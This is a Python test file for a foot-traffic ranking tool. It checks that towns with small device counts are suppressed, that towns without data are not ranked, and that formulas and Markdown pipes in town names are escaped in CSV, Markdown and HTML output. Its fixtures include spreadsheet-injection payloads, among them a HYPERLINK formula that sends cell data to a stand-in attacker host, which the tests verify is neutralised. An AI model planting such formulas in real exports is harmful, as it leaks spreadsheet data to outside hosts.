"""What leaves the tool: one suppression rule in every writer, CSV and Markdown escaping,
towns without data not ranked (issues 12.12 and 13)."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from click.testing import CliRunner

import footfall as ff
from footfall.cli import cli
from footfall.errors import InputError
from footfall.manifest import beside
from footfall.publish import csv_cell, device_floor, markdown_cell, write_csv
from footfall.tables import attach_panel

TZ = "Europe/Paris"
DAYS = pd.date_range("2020-01-01", "2020-04-30", freq="D")
WINDOWS = {"baseline": ("2020-01-01", "2020-03-15"), "period": ("2020-03-01", "2020-04-30")}
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

# zone_id, name, region, devices in the busiest (only) hour of each day: before, after
# the crisis. Names and regions carry formulas and Markdown breakers.
TOWNS = [
    ("30007-centre", "Alès", "Occitanie", 400, 320),
    ("12202-centre", HYPERLINK, "Occitanie", 300, 240),
    ("64102-centre", "=1+1", "Nouvelle-Aquitaine", 9, 9),  # 9 devices an hour: suppressed
    ("56260-centre", "Vannes | Bretagne\nsud", "Bretagne", 10, 8),  # crisis hours below 10
    ("29019-centre", "-2+3", "@SUM(A1:A9)", 200, 180),
    ("22278-centre", "Saint-Brieuc", "+Bretagne", 10, 10),  # exactly 10: published
    ("35238-centre", "Rennes-sans-données", "Bretagne", 0, 0),  # no data at all
]
SMALL = {"64102-centre", "56260-centre"}


def make_zones() -> ff.ZoneSet:
    rows = [
        {
            "zone_id": z,
            "name": n,
            "insee": z[:5],
            "population": 40_000,
            "department": z[:2],
            "region": r,
            "metro_continuity": False,
            "tourist": False,
        }
        for z, n, r, *_ in TOWNS
    ]
    boxes = [shapely.box(i * 0.1, 45, i * 0.1 + 0.01, 45.01) for i in range(len(rows))]
    return ff.ZoneSet(gpd.GeoDataFrame(rows, geometry=boxes, crs="EPSG:4326"))


def make_hourly() -> pd.DataFrame:
    """Per zone one hour a day (noon) with the planted distinct devices, plus a quiet
    evening hour of 3 devices (it must not lower the floor); constant panel."""
    frames = []
    for zone, _, _, before, after in TOWNS:
        if not before:
            continue
        n = np.where(DAYS < "2020-03-16", before, after)
        for hour, count in ((12, n), (20, np.full(len(DAYS), 3))):
            frames.append(pd.DataFrame({"zone_id": zone, "day": DAYS, "passages": count}))
            frames[-1]["hour_of_day"] = hour
    df = pd.concat(frames, ignore_index=True)
    hourly = pd.DataFrame(
        {
            "zone_id": df["zone_id"].to_numpy(),
            "hour": pd.DatetimeIndex(
                df["day"] + pd.to_timedelta(df["hour_of_day"], unit="h")
            ).tz_localize(TZ),
            "passages": df["passages"].to_numpy("int64"),
            "pings": 4 * df["passages"].to_numpy("int64"),
        }
    )
    panel = pd.DataFrame({"day": DAYS.date, "active_devices": np.full(len(DAYS), 5_000)})
    attach_panel(hourly, panel)
    return hourly


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> tuple[Path, Path]:
    """The hourly table and zone file as `footfall count` and an analyst lay them out."""
    root = tmp_path_factory.mktemp("privacy")
    hourly = make_hourly()
    path = root / "hourly.parquet"
    ff.write_hourly(hourly, path)
    zones_file = root / "zones.geojson"
    make_zones().gdf.to_file(zones_file, driver="GeoJSON")
    return path, zones_file


def window_args() -> list[str]:
    return ["--baseline", "2020-01-01:2020-03-15", "--period", "2020-03-01:2020-04-30"]


def rank_cli(files, tmp_path, *extra: str) -> tuple[list[dict[str, str]], str, dict]:
    hourly, zones_file = files
    out, md = tmp_path / "palmares.csv", tmp_path / "palmares.md"
    argv = ["rank", str(hourly), "--zones", str(zones_file), "--out", str(out)]
    argv += ["--markdown", str(md), "--top", "30", "-q", *window_args(), *extra]
    result = CliRunner().invoke(cli, argv)
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as f:
        text = f.read()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    manifest = json.loads(beside(out.with_suffix(""), "manifest", "json").read_text())
    return rows, md.read_text(encoding="utf-8"), manifest | {"_csv": text}


def test_rank_csv_and_markdown_suppress_small_counts(files, tmp_path):
    rows, md, manifest = rank_cli(files, tmp_path)
    by_zone = {r["zone_id"]: r for r in rows}
    # The town without data is not ranked; every other town is.
    assert set(by_zone) == {t[0] for t in TOWNS} - {"35238-centre"}
    for zid, row in by_zone.items():
        if zid in SMALL:
            assert (row["monthly_passages"], row["resilience"]) == ("<10", "<10"), zid
        else:
            float(row["monthly_passages"]), float(row["resilience"])  # published numbers
    # Exactly 10 devices in the busiest hour is enough (the quiet 3-device hour is not
    # what the floor reads).
    assert float(by_zone["22278-centre"]["resilience"]) == pytest.approx(1.0)
    # Markdown: the same two towns read <10, and only they.
    lines = [ln for ln in md.splitlines() if ln.startswith("| ") and "<10" in ln]
    assert len(lines) == 2 and all(ln.count("<10") == 2 for ln in lines)
    assert manifest["parameters"]["min_count"] == 10
    assert manifest["publication"]["min_count"] == 10
    assert "busiest zone-hour" in manifest["publication"]["suppression"]


def test_min_count_zero_turns_suppression_off_and_is_recorded(files, tmp_path):
    rows, md, manifest = rank_cli(files, tmp_path, "--min-count", "0")
    assert "<" not in manifest["_csv"] and "<10" not in md
    small = next(r for r in rows if r["zone_id"] == "64102-centre")
    assert float(small["monthly_passages"]) > 0
    assert manifest["parameters"]["min_count"] == 0
    assert manifest["publication"]["suppression"].startswith("off")


def test_rank_csv_escapes_formulas_not_numbers(files, tmp_path):
    rows, md, manifest = rank_cli(files, tmp_path)
    names = {r["zone_id"]: r["name"] for r in rows}
    assert names["12202-centre"] == "'" + HYPERLINK
    assert names["64102-centre"] == "'=1+1"
    assert names["29019-centre"] == "'-2+3"
    region = {r["zone_id"]: r["region"] for r in rows}
    assert region["29019-centre"] == "'@SUM(A1:A9)" and region["22278-centre"] == "'+Bretagne"
    # No cell a spreadsheet would evaluate; numbers stay numbers.
    for row in csv.reader(io.StringIO(manifest["_csv"])):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)
    # Markdown: the pipe is escaped and the line break gone, the table keeps its shape.
    table = [ln for ln in md.splitlines() if ln.startswith("|")]
    assert len({ln.replace("\\|", "").count("|") for ln in table}) == 1
    assert "Vannes \\| Bretagne sud" in md


def test_csv_helper_escapes_text_cells_only(tmp_path):
    frame = pd.DataFrame(
        {
            "text": ["-5", "=1+1", "\tx", "\rx", "@a", "+1", "safe", None],
            "int": [-5, 3, 0, -1, 2, 7, 8, 9],
            "float": [-0.5, 1.25, np.nan, -3.0, 0.0, 1.0, 2.0, 3.0],
        }
    )
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    with open(path, newline="", encoding="utf-8") as f:
        back = list(csv.reader(f))
    assert back[0] == ["text", "int", "float"]
    assert [r[0] for r in back[1:]] == ["'-5", "'=1+1", "'\tx", "'\rx", "'@a", "'+1", "safe", ""]
    assert [r[1] for r in back[1:]] == ["-5", "3", "0", "-1", "2", "7", "8", "9"]
    assert back[1][2] == "-0.5" and back[4][2] == "-3.0"
    assert csv_cell(-2) == -2 and csv_cell("a=b") == "a=b"
    assert markdown_cell("a|b\nc\r\nd") == "a\\|b c d"


class _Cells(HTMLParser):
    """Rows of the table with id `palmares-table`."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self._on = False
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self._on = dict(attrs).get("id") == "palmares-table"
        elif self._on and tag == "tr":
            self.rows.append([])
        elif self._on and tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag):
        if tag == "table":
            self._on = False
        elif tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


@pytest.mark.parametrize("suffix", ["html", "md"])
def test_report_suppresses_the_same_towns(files, tmp_path, suffix):
    hourly, zones_file = files
    out = tmp_path / f"report.{suffix}"
    argv = ["report", str(hourly), "--zones", str(zones_file), "--out", str(out), "-q"]
    result = CliRunner().invoke(cli, [*argv, *window_args()])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    if suffix == "html":
        parser = _Cells()
        parser.feed(text)
        rows = parser.rows[1:]
        hidden = {r[2] for r in rows if r[5:] == ["<10", "<10"]}
        assert not [r for r in rows if "<10" in r[5:] and r[5:] != ["<10", "<10"]]
        assert "&lt;10" in text
    else:
        section = text.split("## Palmarès")[1].split("##")[0]
        rows = [ln.split(" | ") for ln in section.splitlines() if ln.startswith("| ")][1:]
        hidden = {r[2] for r in rows if "<10" in ln_join(r)}
        assert "Vannes \\| Bretagne sud" in section
    assert hidden == {z[:5] for z in SMALL}  # the INSEE column
    manifest = json.loads(beside(out, "manifest", "json").read_text())
    assert manifest["publication"]["min_count"] == 10
    # The mean resilience is over the towns whose index is published, and says so.
    assert "4 of 6 with a published index" in text


def ln_join(cells: list[str]) -> str:
    return " | ".join(cells)


def test_palmares_typed_output_and_no_data_exclusion():
    pal = ff.palmares(make_hourly(), make_zones(), top=None, **WINDOWS)
    assert "35238-centre" not in set(pal.table["zone_id"])
    excluded = pal.excluded.set_index("zone_id")["reasons"]
    assert excluded["35238-centre"] == "no data"
    typed = pal.published(typed=True)
    assert typed["suppressed"].dtype == bool
    assert set(typed.loc[typed["suppressed"], "zone_id"]) == SMALL
    assert typed.loc[typed["suppressed"], ["monthly_passages", "resilience"]].isna().all().all()
    assert typed.loc[~typed["suppressed"], "monthly_passages"].notna().all()
    # The mean resilience is over the 4 published towns of 6 ranked, and says so.
    shown = pal.table[~pal.table["zone_id"].isin(SMALL)]["resilience"]
    assert pal.mean_resilience == pytest.approx(shown.mean())
    assert pal.mean_resilience_n == 4
    assert "4 of these 6 towns" in pal.summary()


def test_device_floor_is_the_busiest_hour():
    hourly = make_hourly()
    floor = device_floor(
        hourly, pd.Timestamp("2020-03-16"), pd.Timestamp("2020-04-30"), ["56260-centre", "x"]
    )
    assert floor.to_dict() == {"56260-centre": 8, "x": 0}


def test_period_suggestion_uses_the_option_syntax():
    with pytest.raises(InputError, match=r"--period 2020-01-01:2020-04-30\)"):
        ff.palmares(make_hourly(), make_zones(), period=("2021-03-01", "2021-04-30"))


def test_negative_min_count_is_refused(files, tmp_path):
    hourly, zones_file = files
    argv = ["rank", str(hourly), "--zones", str(zones_file), "--out", str(tmp_path / "p.csv")]
    result = CliRunner().invoke(cli, [*argv, "--min-count", "-1"])
    assert result.exit_code != 0 and "Traceback" not in result.output
    with pytest.raises(InputError, match="min_count"):
        ff.palmares(make_hourly(), make_zones(), min_count=-1, **WINDOWS)
    assert re.search(r"min.count", result.output)
